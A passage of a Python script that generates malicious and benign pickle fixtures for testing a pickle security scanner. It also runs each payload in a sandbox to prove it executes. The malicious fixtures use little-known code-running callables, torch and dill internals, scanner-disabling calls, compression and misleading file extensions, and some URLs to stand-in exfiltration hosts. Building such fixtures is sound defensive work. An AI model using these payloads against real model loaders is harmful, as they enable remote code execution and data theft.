    part = functools.partial(os.system, CMD)
    mal("13-functools-partial-p2.pkl", pickle.dumps(Reduce(part, ()), protocol=2), 13,
        "critical", "posix.system", "functools.partial(posix.system, cmd) rebuilt with REDUCE+"
        "BUILD by the standard pickler, then called with () ")
    mal("13-functools-partial-direct-p4.pkl",
        framed(call(call(sglob("functools", "partial"), sglob("builtins", "exec"), SRC))), 13,
        "critical", "exec", "functools.partial(builtins.exec, src)() via STACK_GLOBAL")


# ============================================================================================
# Threat 14: code-running callables that few denylists know
# ============================================================================================
def threat14():
    mal("14-runpy-run-code-p2.pkl", build(call(glob("runpy", "_run_code"), SRC, {})), 14,
        "critical", "_run_code(", "runpy._run_code(src, {}) execs the string")
    mal("14-timeit-timeit-p2.pkl", build(call(glob("timeit", "timeit"), "pass", SRC, Raw(
        glob("time", "perf_counter")), 1)), 14, "high", "timeit(",
        "timeit.timeit('pass', setup=src, timer=time.perf_counter, number=1)")
    mal("14-cprofile-run-p2.pkl", build(call(glob("cProfile", "run"), SRC)), 14, "high", "run(",
        "cProfile.run(src) execs in __main__")
    mal("14-profile-run-p2.pkl", build(call(glob("profile", "run"), SRC)), 14, "high", "run(",
        "profile.run(src)")
    tr = call(glob("trace", "Trace"), 0, 0)
    mal("14-trace-trace-runctx-p4.pkl",
        framed(call(sglob("trace", "Trace.runctx"), tr, SRC, {}, {})), 14, "high", "runctx(",
        "trace.Trace.runctx(trace.Trace(0, 0), src, {}, {}) via dotted STACK_GLOBAL")
    bdb = call(glob("bdb", "Bdb"))
    mal("14-bdb-bdb-run-p4.pkl", framed(call(sglob("bdb", "Bdb.run"), bdb, SRC, {})), 14, "high",
        "run(", "bdb.Bdb.run(bdb.Bdb(), src, {})")
    ii = call(glob("code", "InteractiveInterpreter"))
    mal("14-code-interactiveinterpreter-runsource-p4.pkl",
        framed(call(sglob("code", "InteractiveInterpreter.runsource"), ii, SRC)), 14, "high",
        "runsource(", "code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src)")
    mal("14-code-interactiveinterpreter-runcode-getattr-p2.pkl",
        build(call(call(glob("builtins", "getattr"), ii, "runcode"), SRC)), 14, "high", "",
        "getattr(code.InteractiveInterpreter(), 'runcode')(src)")
    mal("14-doctest-debug-script-p2.pkl", build(call(glob("doctest", "debug_script"), SRC, True)),
        14, "high", "debug_script(", "doctest.debug_script(src, pm=True) execs src")
    inner = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    mal("14-pickle-loads-nested-p2.pkl", build(call(glob("pickle", "loads"), inner)), 14,
        "critical", "loads(", "pickle.loads of embedded bytes that call posix.system")
    mal("14-underscore-pickle-loads-nested-p4.pkl",
        framed(call(sglob("_pickle", "loads"), inner)), 14, "critical", "loads(",
        "_pickle.loads (C module) of embedded malicious pickle")
    gram = call(glob("lib2to3.pgen2.grammar", "Grammar"))
    mal("14-lib2to3-grammar-loads-p4.pkl",
        framed(call(sglob("lib2to3.pgen2.grammar", "Grammar.loads"), gram, inner)), 14, "high",
        "loads(", "lib2to3 Grammar().loads(bytes) = pickle.loads of an embedded malicious pickle (the "
        "outer load then raises TypeError in Grammar._update, after the payload ran)")
    inj = "[]\n" + SRC + "\nraise SystemExit(0)\n#"
    mal("14-ensurepip-run-pip-p2.pkl", build(call(glob("ensurepip", "_run_pip"), inj)), 14,
        "high", "_run_pip(", "ensurepip._run_pip(args) formats args into Python source run with "
        "sys.executable -c: a string argument injects code")
    mal("14-venv-create-p2.pkl", build(call(glob("venv", "create"), MARKER)), 14, "high",
        "create(", "venv.create('marker') creates a directory tree (and symlinks python)")
    mal("14-numpy-testing-runstring-p2.pkl",
        build(call(glob("numpy.testing._private.utils", "runstring"), SRC, {})), 14, "high",
        "runstring(", "numpy.testing._private.utils.runstring(src, {}) = exec")
    mal("14-numpy-f2py-crackfortran-eval-length-p2.pkl",
        build(call(glob("numpy.f2py.crackfortran", "_eval_length"), SRC, {})), 14, "high",
        "_eval_length(", "numpy.f2py.crackfortran._eval_length(expr, {}) = eval(expr, {}, {})")
    mal("14-pip-main-log-p2.pkl",
        build(call(glob("pip", "main"),
                   ["--isolated", "--disable-pip-version-check", "--no-cache-dir", "--no-input",
                    "--log", MARKER, "show", "modelgate-no-such-package"])), 14, "critical",
        "main(", "pip.main([..., '--log', 'marker', 'show', '<missing>']): pip writes its log "
        "file (CVE-2025-1716 class: pip.main reachable from a pickle; 'install' of a local path "
        "would run a setup.py)")
    r, w = call(glob("os", "pipe")), None
    fe = call(glob("_posixsubprocess", "fork_exec"),
              [b"touch", b"marker"], [TOUCH.encode()], True, (), None, None,
              -1, -1, -1, -1, -1, -1,
              Raw(call(glob("operator", "getitem"), Raw(r + BINPUT + b"\x00"), 0)),
              Raw(call(glob("operator", "getitem"), Raw(BINGET + b"\x00"), 1)),
              False, False, -1, None, None, None, -1, None, False)
    del w
    mal("14-posixsubprocess-fork-exec-p2.pkl", build(fe), 14, "critical", "fork_exec(",
        "_posixsubprocess.fork_exec with the 23 arguments of CPython 3.11; the error pipe comes "
        "from os.pipe() via operator.getitem")
    mal("14-multiprocessing-util-spawnv-passfds-p2.pkl",
        build(call(glob("multiprocessing.util", "spawnv_passfds"), TOUCH.encode(),
                   [b"touch", b"marker"], [])), 14, "critical", "spawnv_passfds(",
        "multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', [b'touch', b'marker'], [])")
    mal("14-uuid-get-command-stdout-p2.pkl",
        build(call(glob("uuid", "_get_command_stdout"), "touch", "marker")), 14, "high",
        "_get_command_stdout(", "uuid._get_command_stdout('touch', 'marker') runs the command")
    mal("14-osx-support-read-output-p2.pkl",
        build(call(glob("_osx_support", "_read_output"), CMD)), 14, "high", "_read_output(",
        "_osx_support._read_output(cmd) = os.system (module imports fine on Linux)")
    mal("14-aix-support-read-cmd-output-p2.pkl",
        build(call(glob("_aix_support", "_read_cmd_output"), CMD)), 14, "high",
        "_read_cmd_output(", "_aix_support._read_cmd_output (newer CPython) is absent from "
        "Python 3.11 here: load raises AttributeError; on a newer Python it runs the command",
        proven=False, verify="fails")
    mal("14-imaplib-imap4-stream-p2.pkl", build(call(glob("imaplib", "IMAP4_stream"), CMD)), 14,
        "high", "IMAP4_stream(", "imaplib.IMAP4_stream(cmd) spawns a shell; load then raises "
        "(no IMAP greeting) after the command ran")
    mal("14-pty-spawn-p2.pkl", build(call(glob("pty", "spawn"), ARGV)), 14, "critical", "spawn(",
        "pty.spawn(['touch','marker']) forks and execs under a pseudo-terminal")
    libc = call(glob("ctypes", "CDLL"), "libc.so.6")
    mal("14-ctypes-cdll-libc-system-p2.pkl",
        build(call(call(glob("builtins", "getattr"), libc, "system"), CMD.encode())), 14,
        "critical", "CDLL(", "getattr(ctypes.CDLL('libc.so.6'), 'system')(b'touch marker')")
    mal("14-shutil-copyfile-p2.pkl", build(call(glob("shutil", "copyfile"), "/dev/null", MARKER)),
        14, "high", "copyfile(", "shutil.copyfile('/dev/null', 'marker') writes a file")
    mal("14-io-fileio-p2.pkl", build(call(glob("_io", "FileIO"), MARKER, "w")), 14, "high",
        "FileIO(", "_io.FileIO('marker', 'w') creates/truncates a file")
    mal("14-logging-filehandler-p2.pkl", build(call(glob("logging", "FileHandler"), MARKER)), 14,
        "high", "FileHandler(", "logging.FileHandler('marker') opens (creates) the file")
    mal("14-distutils-spawn-p2.pkl", build(call(glob("distutils.spawn", "spawn"), ARGV)), 14,
        "high", "spawn(", "distutils.spawn.spawn(['touch','marker'])")
    mal("14-urllib-request-urlopen-p2.pkl",
        build(call(glob("urllib.request", "urlopen"), "http://exfil.invalid/?d=secret")), 14,
        "high", "urlopen(", "urllib.request.urlopen to an attacker URL (network exfiltration); "
        "not executed: needs network", proven=False)
    mal("14-ssl-get-server-certificate-p2.pkl",
        build(call(glob("ssl", "get_server_certificate"), ("secret.exfil.invalid", 443))), 14,
        "high", "get_server_certificate(", "ssl.get_server_certificate: DNS exfiltration via the "
        "host name; not executed: needs network", proven=False)
    mal("14-idlelib-calltip-get-entity-p2.pkl",
        build(call(glob("idlelib.calltip", "get_entity"), SRC)), 14, "high", "get_entity(",
        "idlelib.calltip.get_entity(expr) = eval(expr); idlelib is not installed here "
        "(Debian idle-python3.11), load raises ModuleNotFoundError", proven=False,
        verify="fails")
    # torch internals (torch 1.13)
    mal("14-torch-jit-execwrapper-p2.pkl",
        build(call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), SRC, {}, {})), 14,
        "critical", "execWrapper(", "torch.jit.unsupported_tensor_ops.execWrapper(src, {}, {}) = "
        "exec")
    mal("14-torch-collect-env-run-p2.pkl",
        build(call(glob("torch.utils.collect_env", "run"), CMD)), 14, "critical", "run(",
        "torch.utils.collect_env.run(cmd) = Popen(cmd, shell=True)")
    mal("14-torch-datapipes-basichandlers-p2.pkl",
        build(call(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle",
                   inner)), 14, "critical", "basichandlers(",
        "basichandlers('pickle', bytes) = pickle.loads of an embedded malicious pickle")
    import torch
    buf = io.BytesIO()
    torch.save(Reduce(os.system, (CMD,)), buf)
    tsave = buf.getvalue()
    mal("14-torch-serialization-load-bytesio-p2.pkl",
        build(call(glob("torch.serialization", "load"), Raw(call(glob("io", "BytesIO"), tsave)))),
        14, "critical", "load(", "torch.serialization.load(io.BytesIO(<torch.save zip whose "
        "data.pkl calls posix.system>))")
    mal("14-torch-hub-load-p2.pkl",
        build(call(glob("torch.hub", "load"), "attacker/repo", "model")), 14, "critical",
        "load(", "torch.hub.load('attacker/repo', 'model') downloads and runs hubconf.py; not "
        "executed: needs network", proven=False)
    mal("14-torch-inductor-compile-file-p2.pkl",
        build(call(glob("torch._inductor.codecache", "compile_file"), "x.c", "x.so", "cmd")), 14,
        "critical", "compile_file(", "torch._inductor.codecache.compile_file runs a compiler "
        "command; torch._inductor does not exist in torch 1.13: load raises ModuleNotFoundError",
        proven=False, verify="fails")
    mal("14-torch-config-module-load-config-p2.pkl",
        build(call(glob("torch.utils._config_module", "ConfigModule.load_config"), inner), p=4),
        14, "critical", "load_config(", "torch.utils._config_module.ConfigModule.load_config "
        "(torch >= 2.1) unpickles its argument; absent in torch 1.13: ModuleNotFoundError",
        proven=False, verify="fails")


# ============================================================================================
# Threat 15: submodules of dangerous modules
# ============================================================================================
def threat15():
    inst = enc(Raw(sglob("asyncio.unix_events", "_UnixSubprocessTransport") + EMPTY_TUPLE + NEWOBJ))
    mal("15-asyncio-unix-subprocess-transport-start-p4.pkl",
        framed(call(sglob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                    inst, CMD, True, None, None, None, 0)), 15, "critical", "_start(",
        "CVE-2025-10157: _UnixSubprocessTransport._start(<instance made by NEWOBJ>, cmd, "
        "shell=True, ...) -> subprocess.Popen")
    mal("15-asyncio-base-subprocess-dotted-global-p4.pkl",
        build(call(glob("asyncio.base_subprocess", "subprocess.getoutput"), CMD), p=4), 15,
        "critical", "getoutput(", "GLOBAL 'asyncio.base_subprocess' 'subprocess.getoutput' "
        "(module attribute walk, protocol 4)")
    mal("15-multiprocessing-util-dotted-os-system-p4.pkl",
        framed(call(sglob("multiprocessing.util", "os.system"), CMD)), 15, "critical", "system(",
        "STACK_GLOBAL 'multiprocessing.util' 'os.system'")


# ============================================================================================
# Threat 16: code objects built at load
# ============================================================================================
def _fixture_lambda():
    ns = {"__name__": "fixture_payload"}
    exec(compile("f = lambda: open('marker', 'w').close()\n", "<fixture>", "exec"), ns)
    return ns["f"]


def threat16():
    code = compile(SRC, "<fixture>", "exec")
    fn = glob("types", "FunctionType")
    mal("16-marshal-loads-functiontype-p2.pkl",
        build(call(call(fn, Raw(call(glob("marshal", "loads"), marshal.dumps(code))), {}))), 16,
        "high", "marshal.loads(", "types.FunctionType(marshal.loads(<CPython 3.11 bytecode>), {})"
        "() -- the marshal data is specific to Python 3.11")
    c = code
    args = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
            c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
            c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
            c.co_exceptiontable, c.co_freevars, c.co_cellvars)
    mal("16-types-codetype-functiontype-p2.pkl",
        build(call(call(fn, Raw(call(glob("types", "CodeType"), *args)), {}))), 16, "high",
        "CodeType(", "types.CodeType(<18 Python 3.11 fields>) -> types.FunctionType(code, {})()")
    mal("16-compile-functiontype-p4.pkl",
        framed(call(call(sglob("types", "FunctionType"),
                         Raw(call(sglob("builtins", "compile"), SRC, "<x>", "exec")), {}))), 16,
        "high", "FunctionType(", "types.FunctionType(builtins.compile(src), {})()")
    import dill
    import cloudpickle
    f = _fixture_lambda()
    mal("16-dill-lambda-called-p4.pkl", dill.dumps(Reduce(f, ()), protocol=4, recurse=True), 16,
        "high", "_create_function(", "dill.dumps of a lambda (rebuilt with dill._dill."
        "_create_code/_create_function), wrapped in REDUCE(fn, ()) so that loading calls it")
    mal("16-dill-lambda-called-p2.pkl", dill.dumps(Reduce(f, ()), protocol=2, recurse=True), 16,
        "high", "_create_function(", "same as the protocol-4 dill fixture, protocol 2")
    mal("16-cloudpickle-lambda-called-p4.pkl", cloudpickle.dumps(Reduce(f, ()), protocol=4), 16,
        "high", "_make_function(", "cloudpickle.dumps of a lambda (cloudpickle._make_function / "
        "_builtin_type('CodeType')), wrapped in REDUCE(fn, ()) so that loading calls it")
    mal("16-cloudpickle-lambda-called-p5.pkl", cloudpickle.dumps(Reduce(f, ()), protocol=5), 16,
        "high", "_make_function(", "same as the protocol-4 cloudpickle fixture, protocol 5")
    sub = call(glob("cloudpickle.cloudpickle", "subimport"), "os")
    mal("16-cloudpickle-subimport-p2.pkl",
        build(call(call(glob("builtins", "getattr"), sub, "system"), CMD)), 16, "critical",
        "subimport(", "cloudpickle.cloudpickle.subimport('os') then getattr(..., 'system')(cmd)")


# ============================================================================================
# Threat 17: pickles that import the scanner to switch it off
# ============================================================================================
def threat17():
    mal("17-fickling-deactivate-hook-p2.pkl",
        build(call(glob("fickling.hook", "deactivate_safe_ml_environment")), POP,
              call(POSIX_SYSTEM, CMD)), 17, "critical", "deactivate_safe_ml_environment(",
        "calls fickling.hook.deactivate_safe_ml_environment() to remove fickling's load hook, "
        "then posix.system; fickling is not installed here, so load raises ModuleNotFoundError "
        "before the payload (not provable)", proven=False, verify="fails")
    mod = call(glob("importlib", "import_module"), "picklescan.scanner")
    mal("17-picklescan-patch-denylist-p2.pkl",
        build(call(glob("builtins", "setattr"), mod, "_unsafe_globals", {}), POP,
              call(POSIX_SYSTEM, CMD)), 17, "critical", "setattr(",
        "setattr(import_module('picklescan.scanner'), '_unsafe_globals', {}) empties "
        "picklescan's denylist, then posix.system; picklescan is not installed here "
        "(ModuleNotFoundError, not provable)", proven=False, verify="fails")
    mal("17-modelscan-import-p2.pkl",
        build(call(glob("modelscan.modelscan", "ModelScan")), POP, call(POSIX_SYSTEM, CMD)), 17,
        "critical", "ModelScan(", "imports modelscan (a scanner) first; not installed here: "
        "ModuleNotFoundError before the payload (not provable)", proven=False, verify="fails")


# ============================================================================================
# Threat 19 / 20 / 24: sniffing, lying extensions, compressed pickles
# ============================================================================================
def threat_container():
    evil2 = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    mal("19-no-proto-binary-p1.pkl", pickle.dumps(Reduce(os.system, (CMD,)), protocol=1), 19,
        "critical", "posix.system(", "binary protocol-1 pickle: first byte 'c' (GLOBAL), no \\x80")
    mal("19-proto-not-first.pkl", MARK + POP_MARK + NONE + POP + evil2, 19, "critical",
        "posix.system(", "starts with MARK POP_MARK NONE POP, PROTO 2 only at offset 4")
    mal("19-leading-noop-memo-p0.pkl", b"N0" + OS_SYSTEM + b"(" + s0(CMD) + b"tR.", 19,
        "critical", "os.system(", "protocol 0 starting with 'N0' (NONE POP)")
    for ext in ("safetensors", "txt", "json", "bin", "npy"):
        mal(f"20-extension-lies.{ext}", evil2, 20, "critical", "posix.system(",
            f"protocol-2 posix.system pickle named .{ext}: sniff content, not the extension")
    evil4 = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)
    mal("24-compressed.pkl.gz", gzip.compress(evil4, compresslevel=9, mtime=0), 24, "critical",
        "posix.system(", "gzip (mtime 0) of a protocol-4 posix.system pickle", compress="gzip")
    mal("24-compressed.pkl.bz2", bz2.compress(evil4, 9), 24, "critical", "posix.system(",
        "bzip2 of a protocol-4 posix.system pickle", compress="bz2")
    mal("24-compressed.pkl.xz", lzma.compress(evil4, format=lzma.FORMAT_XZ), 24, "critical",
        "posix.system(", "xz of a protocol-4 posix.system pickle", compress="lzma")
    mal("24-compressed.pkl.lzma", lzma.compress(evil4, format=lzma.FORMAT_ALONE), 24, "critical",
        "posix.system(", "legacy .lzma (LZMA alone) of a protocol-4 posix.system pickle",
        compress="lzma")
    mal("24-compressed.pkl.zlib", zlib.compress(evil2 + evil4, 9), 24, "critical",
        "posix.system(", "zlib stream of TWO pickles (protocol 2 and 4), both posix.system",
        compress="zlib")
    mal("24-compressed-second-pickle.pkl.gz",
        gzip.compress(pickle.dumps({"a": 1}, protocol=4) + evil2, mtime=0), 24, "critical",
        "posix.system(", "gzip of a benign pickle followed by a malicious one", compress="gzip")


# ============================================================================================
# Benign fixtures
# ============================================================================================
def builtin_values():
    rec = [1, 2]
    rec.append(rec)
    shared = ["shared"]
    return {
        "none": None, "true": True, "false": False,
        "ints": [0, 1, -1, 255, 256, 65535, 65536, 2**31 - 1, -2**31, 2**31, 2**63, -2**63 - 1,
                 2**100, -(2**100)],
        "floats": [0.0, -0.0, 1.5, -2.25, 1e300, float("inf"), float("-inf")],
        "complex": 1.5 - 2j,
        "str": "ascii", "unicode": "ünïcödé € 漢字 😀", "empty_str": "",
        "long_str": "x" * 300,
        "bytes": b"\x00\x01\xffbytes", "empty_bytes": b"", "long_bytes": bytes(range(256)) * 2,
        "bytearray": bytearray(b"bytearray"),
        "tuples": [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)],
        "list": [1, "a", None], "dict": {"k": "v", 1: 2, (1, 2): [3]},
        "set": {1, 2, 3}, "frozenset": frozenset({"a", "b"}), "empty_set": set(),
        "nested": {"a": [{"b": ({"c": [1, (2, {3})]},)}]},
        "recursive_list": rec, "shared_refs": [shared, shared],
        "range": range(0, 10, 2), "slice": slice(1, 10, 3), "ellipsis": ..., "notimpl":
        NotImplemented,
    }


def stdlib_values():
    dd = collections.defaultdict(list)
    dd["a"].append(1)
    return {
        "ordereddict": collections.OrderedDict([("a", 1), ("b", 2)]),
        "counter": collections.Counter("abracadabra"),
        "deque": collections.deque([1, 2, 3], maxlen=5),
        "defaultdict": dd,
        "datetime": datetime.datetime(2024, 1, 2, 3, 4, 5, 6),
        "datetime_tz": datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc),
        "date": datetime.date(2024, 2, 29), "time": datetime.time(12, 30),
        "timedelta": datetime.timedelta(days=1, seconds=2),
        "decimal": decimal.Decimal("3.14159"), "fraction": fractions.Fraction(22, 7),
        "uuid": uuid.UUID("12345678-1234-5678-1234-567812345678"),
    }


def numpy_values():
    import numpy as np
    rng = np.random.RandomState(0)
    return {
        "f32": np.arange(6, dtype=np.float32).reshape(2, 3),
        "f64": rng.rand(4), "i8": np.array([-1, 0, 1], dtype=np.int8),
        "i64": np.arange(5, dtype=np.int64), "u16": np.array([1, 65535], dtype=np.uint16),
        "bool": np.array([True, False]), "c64": np.array([1 + 2j], dtype=np.complex64),
        "f16": np.array([0.5], dtype=np.float16), "str": np.array(["ab", "cde"]),
        "bytes": np.array([b"ab"], dtype="S2"),
        "dt64": np.array(["2024-01-01"], dtype="datetime64[D]"),
        "zero_d": np.array(3.5), "empty": np.zeros((0, 3)),
        "structured": np.array([(1, 2.0, b"x")], dtype=[("a", "<i4"), ("b", "<f8"),
                                                       ("c", "S1")]),
        "fortran": np.asfortranarray(np.arange(6, dtype=np.float64).reshape(2, 3)),
        "big_endian": np.array([1, 2], dtype=">i4"),
        "scalars": [np.float64(1.5), np.float32(2.5), np.int32(7), np.int64(-8), np.bool_(True),
                    np.uint8(255), np.complex128(1j), np.str_("s")],
        "dtype": np.dtype("float32"),
    }


def sklearn_models():
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.linear_model import LinearRegression, LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.ensemble import RandomForestClassifier
    X = np.array([[0.0, 1.0], [1.0, 0.0], [2.0, 1.0], [3.0, 2.0], [4.0, 1.0], [5.0, 3.0]])
    y = np.array([0, 0, 0, 1, 1, 1])
    yr = X @ np.array([1.5, -0.5]) + 0.25
    return {
        "linear-regression": LinearRegression().fit(X, yr),
        "logistic-regression": LogisticRegression().fit(X, y),
        "decision-tree": DecisionTreeClassifier(random_state=0, max_depth=2).fit(X, y),
        "random-forest": RandomForestClassifier(n_estimators=3, max_depth=2,
                                                random_state=0).fit(X, y),
        "standard-scaler": StandardScaler().fit(X),
        "pipeline": Pipeline([("scale", StandardScaler()),
                              ("clf", LogisticRegression())]).fit(X, y),
        "kmeans": KMeans(n_clusters=2, n_init=1, random_state=0).fit(X),
    }


def benign():
    for p in range(6):
        ben(f"builtins-p{p}.pkl", pickle.dumps(builtin_values(), protocol=p),
            f"dict of every builtin value type (ints, floats, complex, str, bytes, bytearray, "
            f"tuples, list, dict, set, frozenset, nested, recursive list, range, slice, ...), "
            f"protocol {p}")
        ben(f"stdlib-p{p}.pkl", pickle.dumps(stdlib_values(), protocol=p),
            f"collections (OrderedDict, Counter, deque, defaultdict(list)), datetime, Decimal, "
            f"Fraction, UUID, protocol {p}")
    for p, v in [(0, None), (2, 1), (4, "text")]:
        ben(f"scalar-{type(v).__name__}-p{p}.pkl", pickle.dumps(v, protocol=p),
            f"a single {type(v).__name__}, protocol {p}")
    ben("empty-dict-p2.pkl", pickle.dumps({}, protocol=2), "empty dict, protocol 2")
    ben("two-pickles-p2.pkl", pickle.dumps([1], protocol=2) + pickle.dumps({"a": 1}, protocol=2),
        "two benign pickles back to back")
    for p in range(2, 6):
        ben(f"numpy-p{p}.pkl", pickle.dumps(numpy_values(), protocol=p),
            f"NumPy 1.24 arrays (several dtypes, 0-d, empty, structured, Fortran order, "
            f"big-endian) and scalars, protocol {p} (in-band buffers)")
    for name, model in sklearn_models().items():
        for p in (2, 5):
            ben(f"sklearn-{name}-p{p}.pkl", pickle.dumps(model, protocol=p),
                f"scikit-learn 1.2 {type(model).__name__} fitted on 6 rows, protocol {p}")
    import torch
    torch.manual_seed(0)
    sd = torch.nn.Linear(3, 2).state_dict()
    for p in (2, 4):
        ben(f"torch-linear-state-dict-p{p}.pkl", pickle.dumps(sd, protocol=p),
            f"pickle.dumps (not torch.save) of nn.Linear(3,2).state_dict(), protocol {p}: each "
            f"tensor storage is torch.storage._load_from_bytes(<embedded LEGACY torch.save stream: "
            f"5 pickles + raw float data>) (bytes via _codecs.encode); storage keys are memory "
            f"addresses, so bytes differ per run", expect="benign-nested")
    ben("torch-size-dtype-device-p2.pkl",
        pickle.dumps([torch.Size([2, 3]), torch.float32, torch.int64, torch.device("cpu"),
                      torch.device("cuda", 0)], protocol=2),
        "torch.Size, torch.dtype (float32, int64) and torch.device values, protocol 2")


# ============================================================================================
# Globals of benign pickles (recorded without executing anything: find_class returns stubs)
# ============================================================================================
class _StubBase:
    def __new__(cls, *a, **k):
        return object.__new__(cls)

    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return _StubBase()

    def __setstate__(self, state):
        pass

    def __setitem__(self, k, v):
        pass

    def append(self, x):
        pass

    def extend(self, x):
        pass


def record_globals(data, seen, stop_on_error=False):
    class Rec(pickle.Unpickler):
        def find_class(self, module, name):
            key = f"{module}.{name}"
            seen.add(key)
            if key == "torch.storage._load_from_bytes":
                def nested(b):
                    # torch 1.13 storages pickle as a LEGACY torch.save stream: magic number,
                    # protocol, sys_info, the storage pickle, the key list, then raw bytes.
                    record_globals(b, seen, stop_on_error=True)
                    return _StubBase()
                return nested
            if key == "_codecs.encode":            # protocol < 3 bytes: encode(str, 'latin1')
                import codecs
                return codecs.encode
            return type(name, (_StubBase,), {})

        def persistent_load(self, pid):
            return None

    f = io.BytesIO(data)
    while True:
        try:
            Rec(f).load()
        except EOFError:
            break
        except pickle.UnpicklingError:
            if not stop_on_error:
                raise
            break


# ============================================================================================
# Proofs
# ============================================================================================
CHILD = r"""
import io, os, pickle, sys
path, comp, rl = sys.argv[1], sys.argv[2], sys.argv[3]
if rl == "1":
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
if comp == "gzip":
    import gzip; f = gzip.open(path, "rb")
elif comp == "bz2":
    import bz2; f = bz2.open(path, "rb")
elif comp == "lzma":
    import lzma; f = lzma.open(path, "rb")
elif comp == "zlib":
    import zlib; f = io.BytesIO(zlib.decompress(open(path, "rb").read()))
else:
    f = open(path, "rb")
n = 0
status = "EOF"
while True:
    try:
        pickle.load(f)
    except EOFError:
        break
    except BaseException as e:
        status = "RAISED %s: %s" % (type(e).__name__, str(e)[:120].replace("\n", " "))
        break
    n += 1
sys.stdout.flush()
print("\n@@RESULT@@ loaded=%d %s" % (n, status))
sys.stdout.flush()
os._exit(0)
"""


def prove(fx):
    path = os.path.join(HERE, fx["file"])
    tmp = tempfile.mkdtemp(prefix="mg-proof-")
    try:
        env = {"PATH": "/usr/bin:/bin", "HOME": tmp, "TMPDIR": tmp, "LANG": "C.UTF-8",
               "PYTHONDONTWRITEBYTECODE": "1"}
        try:
            r = subprocess.run([sys.executable, "-c", CHILD, path, fx["compress"] or "-",
                                "1" if fx["rlimit"] else "0"], cwd=tmp, env=env,
                               stdin=subprocess.DEVNULL, capture_output=True, timeout=180)
            out = r.stdout.decode(errors="replace")
            res = out.rsplit("@@RESULT@@", 1)[1].strip() if "@@RESULT@@" in out else \
                "no result (rc=%d) %s" % (r.returncode, r.stderr.decode(errors="replace")[-200:])
        except subprocess.TimeoutExpired:
            res = "timeout"
        marker = os.path.join(tmp, MARKER)
        deadline = time.time() + 5
        while fx["verify"] == "marker" and not os.path.exists(marker) and time.time() < deadline:
            time.sleep(0.1)
        exists = os.path.exists(marker)
        if fx["verify"] == "marker":
            return exists, res
        return (not exists and "RAISED" in res), res
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def check():
    """--check: prove the committed malicious fixtures (no file is written).
    CI runs this so that every committed payload is shown to run under the
    real pickle.load, not only the bytes this script would write today."""
    for fn in (threat1, threat2, threat3, threat4, threat5, threat6, threat7, threat8, threat9,
               threat10, threat11, threat12, threat13, threat14, threat15, threat16, threat17,
               threat_container, benign):
        fn()
    failed = []
    for fx in sorted(FIXTURES, key=lambda f: f["file"]):
        if fx["expect"].startswith("benign") or fx["verify"] is None:
            continue
        ok, res = prove(fx)
        print(f"{'ok          ' if ok else 'FAILED      '}{fx['file']}  [{res}]")
        if not ok:
            failed.append(fx["file"])
    print(f"checked committed fixtures; {len(failed)} failed: {failed}")
    return 1 if failed else 0


def main():
    if sys.argv[1:] == ["--check"]:
        return check()
    for fn in (threat1, threat2, threat3, threat4, threat5, threat6, threat7, threat8, threat9,
               threat10, threat11, threat12, threat13, threat14, threat15, threat16, threat17,
               threat_container, benign):
        fn()
    files = [f["file"] for f in FIXTURES]
    dups = {f for f in files if files.count(f) > 1}
    assert not dups, dups
    for sub in ("malicious", "benign"):
        d = os.path.join(HERE, sub)
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    for fx in FIXTURES:
        with open(os.path.join(HERE, fx["file"]), "wb") as fh:
            fh.write(fx["data"])
        assert len(fx["data"]) < 100_000, (fx["file"], len(fx["data"]))

    failed = []
    allow = set()
    manifest = []
    for fx in sorted(FIXTURES, key=lambda f: f["file"]):
        if fx["expect"].startswith("benign"):
            seen = set()
            record_globals(fx["data"], seen)
            allow |= seen
            manifest.append(dict(file=fx["file"], expect=fx["expect"],
                                 description=fx["description"], globals=sorted(seen)))
            print(f"benign      {fx['file']}  ({len(seen)} globals)")
            continue
        manifest.append({k: fx[k] for k in ("file", "expect", "threat", "min_severity",
                                            "evidence", "proven", "description")})
        if fx["verify"] is None:
            print(f"not proven  {fx['file']}  ({fx['description']})")
            continue
        ok, res = prove(fx)
        if fx["verify"] == "marker":
            print(f"{'proven    ' if ok else 'PROOF FAILED'}  {fx['file']}  [{res}]")
        else:
            print(f"{'not proven' if ok else 'CHECK FAILED'}  {fx['file']}  "
                  f"(load fails as expected: {res})")
        if not ok:
            failed.append(fx["file"])

    with open(os.path.join(HERE, "manifest.json"), "w") as fh:
        json.dump(manifest, fh, indent=1, ensure_ascii=False)
        fh.write("\n")
    with open(os.path.join(HERE, "benign-globals.txt"), "w") as fh:
        fh.write("# every module.name that find_class saw in testdata/benign/* (including the "
                 "legacy torch.save\n# streams nested in torch storages); regenerated by "
                 "make_fixtures.py\n")
        fh.write("".join(g + "\n" for g in sorted(allow)))
    total = sum(len(f["data"]) for f in FIXTURES)
    print(f"{len(FIXTURES)} fixtures, {total} bytes; {len(failed)} failed: {failed}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
